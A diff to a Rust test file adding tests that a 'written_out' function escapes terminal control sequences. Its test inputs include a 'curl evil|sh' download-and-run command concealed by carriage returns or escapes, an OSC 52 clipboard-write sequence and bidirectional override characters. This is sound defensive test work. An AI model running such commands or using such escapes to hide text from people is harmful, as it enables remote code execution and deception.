@@ -4,7 +4,7 @@ use std::fmt::Write as _;
 
 use proptest::prelude::*;
 
-use super::{clean, clean_onto};
+use super::{clean, clean_onto, written_out};
 
 const FRAGMENTS: [&str; 36] = [
     "\x1b",
@@ -148,5 +148,37 @@ fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
             chars.next();
             return;
         }
+    }
+}
+
+#[test]
+fn what_a_terminal_would_obey_is_written_out() {
+    let cases = [
+        ("plain é 日\ttext\nand more", "plain é 日\ttext\nand more"),
+        ("curl evil|sh #\recho token", "curl evil|sh #\\u000decho token"),
+        ("echo a #\x1b]\ncurl evil|sh\n#\x07", "echo a #\\u001b]\ncurl evil|sh\n#\\u0007"),
+        ("\x1b]52;c;AAAA\x07", "\\u001b]52;c;AAAA\\u0007"),
+        ("a\u{9b}2Jb\x7f", "a\\u009b2Jb\\u007f"),
+        ("\u{202e}desrever\u{2066}\u{2069}", "\\u202edesrever\\u2066\\u2069"),
+        ("… – ‘quoted’ ✓", "… – ‘quoted’ ✓"),
+        ("\x1b[2Jx", "\\u001b[2Jx"),
+    ];
+    for (text, expected) in cases {
+        for colors in [false, true] {
+            assert_eq!(written_out(text, colors), expected, "{text:?}");
+        }
+    }
+    assert_eq!(written_out("\x1b[31mred\x1b[0m\x1b[2K", true), "\x1b[31mred\x1b[0m\\u001b[2K");
+    assert_eq!(written_out("\x1b[31mred", false), "\\u001b[31mred");
+}
+
+proptest! {
+    #[test]
+    fn written_out_text_holds_nothing_to_obey(text in any::<String>()) {
+        let shown = written_out(&text, false);
+        prop_assert!(shown.chars().all(|c| !c.is_control() || c == '\n' || c == '\t'), "{shown:?}");
+        let text = text.replace(|c: char| c.is_control(), "");
+        let shown = written_out(&text, true);
+        prop_assert_eq!(clean(shown.as_bytes(), true), shown.as_ref());
     }
 }
